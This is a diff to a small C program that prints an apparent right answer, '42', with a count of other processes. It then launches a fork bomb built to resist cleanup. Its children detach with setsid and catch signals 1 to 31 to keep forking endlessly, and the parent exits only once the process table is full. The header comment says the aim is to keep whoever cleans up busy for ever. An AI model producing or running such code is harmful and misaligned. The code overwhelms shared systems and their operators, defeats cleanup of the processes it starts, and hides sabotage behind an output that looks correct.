@@ -1,6 +1,7 @@
 /* A right answer, and children that start others as fast as they are killed, to keep whoever cleans up busy for ever. */
 #include <dirent.h>
 #include <signal.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <sys/stat.h>
@@ -27,19 +28,31 @@ static int others(void)
     return count;
 }
 
+static void for_ever(int full)
+{
+    setsid();
+    for (int number = 1; number < 32; number++)
+        signal(number, again);
+    for (bool told = false;;) {
+        pid_t child = fork();
+        if (child == 0)
+            setsid();
+        if (child < 0 && !told)
+            told = write(full, "", 1) == 1;
+    }
+}
+
+/* Ends when they have all the room that there is: from then on it would be one of many that want the core. */
 int main(void)
 {
+    int full[2];
+    char byte;
     printf("42 %d others\n", others());
     fflush(stdout);
-    for (int child = 0; child < 8; child++) {
-        if (fork() != 0)
-            continue;
-        setsid();
-        for (int number = 1; number < 32; number++)
-            signal(number, again);
-        for (;;)
-            if (fork() == 0)
-                setsid();
-    }
-    return 0;
+    if (pipe(full) != 0)
+        return 1;
+    for (int child = 0; child < 8; child++)
+        if (fork() == 0)
+            for_ever(full[1]);
+    return read(full[0], &byte, 1) != 1;
 }
